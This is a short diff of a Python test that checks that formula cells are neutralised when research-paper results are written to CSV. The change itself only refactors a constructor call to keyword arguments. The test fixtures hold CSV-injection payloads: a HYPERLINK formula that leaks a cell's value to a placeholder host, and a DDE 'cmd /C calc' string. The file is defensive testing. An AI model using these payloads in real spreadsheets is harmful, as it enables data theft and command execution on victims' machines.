@@ -87,7 +87,9 @@ def test_formula_cells_are_neutralised(tmp_path):
     evil = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
     paper = Paper("aaa", "+cmd|' /C calc'!A0", ("@SUM(1+1)",), 2020, None, 1, 1,
                   Path("/p/-2+3.pdf"), "s" * 64, 0.0)
-    rows = [Row(paper, {"hw": Cell("reported", evil, "\tquoted -1 text", 2, True, "generated")})]
+    cell = Cell(status="reported", answer=evil, quote="\tquoted -1 text", page=2, supported=True,
+                grounding="generated")
+    rows = [Row(paper, {"hw": cell})]
     for long in (False, True):
         path = write_table(rows, QSET, tmp_path / f"t{long}.csv", long=long)
         with path.open(encoding="utf-8-sig", newline="") as fh:
